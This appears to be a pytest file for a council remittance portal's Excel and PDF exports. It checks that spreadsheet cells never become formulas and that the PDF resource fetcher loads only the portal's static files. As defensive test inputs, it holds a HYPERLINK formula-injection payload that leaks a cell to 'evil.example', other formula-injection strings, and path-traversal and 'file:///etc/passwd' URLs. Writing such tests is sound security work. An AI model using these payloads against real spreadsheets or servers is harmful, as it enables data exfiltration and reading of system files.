"""A remittance as Excel (numbers stay numbers, text never becomes a formula) and as a PDF (the letterhead,
the provider, every line, the totals, page numbers, a header on every page), and the PDF's URL fetcher,
which reads the portal's static files and nothing else."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from weasyprint import HTML

from remittances.models import RemittanceLine
from remittances.pdf import (
    BASE_URL,
    ResourceRefused,
    StaticFilesFetcher,
    remittance_pdf,
    render_pdf,
    static_file_for,
)
from tests.conftest import Council
from tests.factories import CarePackageLineFactory
from tests.remittances.advice_fixtures import flat, pdf_pages, remittance

pytestmark = pytest.mark.django_db
D = Decimal
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_the_spreadsheet_has_every_line_as_numbers_and_no_formula_anywhere(
    council: Council, provider_a_client
) -> None:
    person = CarePackageLineFactory(
        provider=council.provider_a, service_user__name="@SUM(A1:A9)"
    ).service_user
    made = remittance(
        council.provider_a,
        [
            {"description": HOSTILE, "service_user_ref": person.ref, "amount": D("245.70")},
            {"description": "+44 20 7946 0000", "source_ref": "-1+1", "amount": D("10.00")},
            {
                "kind": RemittanceLine.Kind.ADJUSTMENT,
                "description": "Adjustment: recovered",
                "period_start": None,
                "period_end": None,
                "quantity": D("1"),
                "rate": D("-5.25"),
                "amount": D("-5.25"),
            },
        ],
    )

    response = provider_a_client.get(reverse("remittance_excel", args=[made.ref]))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert f'filename="remittance-{made.ref}.xlsx"' in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    hostile = [cell for cell in cells if cell.value == HOSTILE]
    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].quotePrefix
    assert any(cell.value == "@SUM(A1:A9)" and cell.quotePrefix for cell in cells)
    assert any(cell.value == "+44 20 7946 0000" and cell.quotePrefix for cell in cells)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    heading = rows.index(next(r for r in rows if r and r[0] == "Person"))
    lines = rows[heading + 1 : heading + 4]
    amounts = [row[9] for row in lines]
    assert amounts == [245.7, 10, -5.25]  # numbers, not text
    assert lines[2][2] == "Payment adjustment"
    totals = {row[8]: row[9] for row in rows[heading + 4 :] if row and len(row) > 9 and row[8]}
    assert totals == {"Paid for services": 255.7, "Payment adjustments": -5.25, "Total paid": 250.45}
    assert rows[1][:2] == ["Council", "Wyvern County Council"]


def test_a_short_remittance_downloads_as_a_pdf_with_its_lines_and_totals(
    council: Council, provider_a_client
) -> None:
    person = CarePackageLineFactory(
        provider=council.provider_a, service_user__name="Dorothy Dawson"
    ).service_user
    made = remittance(
        council.provider_a,
        [
            {
                "service_user_ref": person.ref,
                "amount": D("1234.56"),
                "quantity": D("52.76"),
                "rate": D("23.40"),
            },
            {
                "kind": RemittanceLine.Kind.ADJUSTMENT,
                "description": "Adjustment (dispute D000012): extra hours agreed",
                "period_start": None,
                "period_end": None,
                "quantity": D("1"),
                "rate": D("-34.56"),
                "amount": D("-34.56"),
            },
        ],
    )

    response = provider_a_client.get(reverse("remittance_pdf", args=[made.ref]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert f'filename="remittance-{made.ref}.pdf"' in response["Content-Disposition"]
    pages = pdf_pages(response.content)
    assert len(pages) == 1
    text = flat(pages[0])
    assert "Wyvern County Council" in text and "Remittance advice" in text
    assert council.provider_a.name in text and council.provider_a.ref in text
    assert "Dorothy Dawson" in text and "£1,234.56" in text
    assert "PAYMENT ADJUSTMENT" in text and "-£34.56" in text
    assert "Paid for services £1,234.56" in text
    assert "Payment adjustments -£34.56" in text
    assert "Total paid £1,200.00" in text
    assert "Page 1 of 1" in text


def test_a_long_remittance_breaks_across_pages_with_the_header_on_each_and_page_numbers(
    council: Council,
) -> None:
    made = remittance(council.provider_a, [{"amount": D("100.00")} for _ in range(60)])

    data, pages = remittance_pdf(remittance=made)

    texts = [flat(text) for text in pdf_pages(data)]
    assert pages == len(texts) > 1
    for number, text in enumerate(texts, start=1):
        if "Home support, week of" in text:  # a page of lines (the totals may have one to themselves)
            assert "Person Service Period Quantity Rate Amount Pays" in text, number  # the header repeats
        assert f"Page {number} of {pages}" in text
        assert f"Remittance {made.ref}" in text  # the running footer
    assert "Total paid £6,000.00" in texts[-1]
    assert sum(text.count("Home support, week of") for text in texts) == 60


def test_the_pdf_fetcher_reads_the_portals_static_files_and_nothing_else() -> None:
    assert static_file_for(f"{BASE_URL}static/remittances/pdf/logo.svg").name == "logo.svg"
    for url in (
        "file:///etc/passwd",
        "https://example.org/static/remittances/pdf/logo.svg",
        "http://static.portal.invalid/static/remittances/pdf/logo.svg",
        f"{BASE_URL}static/../portal/settings.py",
        f"{BASE_URL}static/%2e%2e/portal/settings.py",
        f"{BASE_URL}static//etc/passwd",
        f"{BASE_URL}elsewhere/remittances/pdf/logo.svg",
        f"{BASE_URL}static/remittances/pdf/nothing-here.css",
        "data:text/css,body{color:red}",
        "ftp://static.portal.invalid/static/remittances/pdf/logo.svg",
    ):
        with pytest.raises(ResourceRefused):
            static_file_for(url)


def test_a_document_asking_for_other_files_is_made_without_them() -> None:
    fetcher = StaticFilesFetcher()
    html = (
        '<link rel="stylesheet" href="https://example.org/evil.css">'
        '<link rel="stylesheet" href="/static/remittances/pdf/document.css">'
        '<img src="file:///etc/passwd"><img src="/static/../../etc/hostname"><p>Still made</p>'
    )
    document = HTML(string=html, base_url=BASE_URL, url_fetcher=fetcher).render()
    assert len(document.pages) == 1
    assert sorted(fetcher.refused) == sorted(
        ["https://example.org/evil.css", "file:///etc/passwd", f"{BASE_URL}etc/hostname"]
    )
    data, pages = render_pdf(html)
    assert pages == 1 and "Still made" in pdf_pages(data)[0]
